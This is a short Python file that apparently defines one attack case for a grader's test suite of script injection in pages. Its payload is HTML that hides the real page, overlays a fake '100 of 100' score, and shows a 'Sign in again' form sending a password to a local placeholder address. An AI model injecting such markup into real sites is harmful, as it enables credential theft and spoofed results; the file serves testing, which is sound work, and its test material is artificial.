"""No script: a style that hides the marks and shows others, over the whole page."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import words

ATTACK = Attack(
    kind="script in pages",
    wants=Want.SCRIPT,
    make=words(
        """
<style>body * { visibility: hidden } .mine { visibility: visible }</style>
<div class="mine" style="position:fixed;inset:0;background:white;z-index:99999"><h1>100 of 100</h1>
<form action="http://127.0.0.1:TCP/MARKER"><input name="password"><button>Sign in again</button></form></div>
<script>document.title = "MARKER"</script>
"""
    ),
)
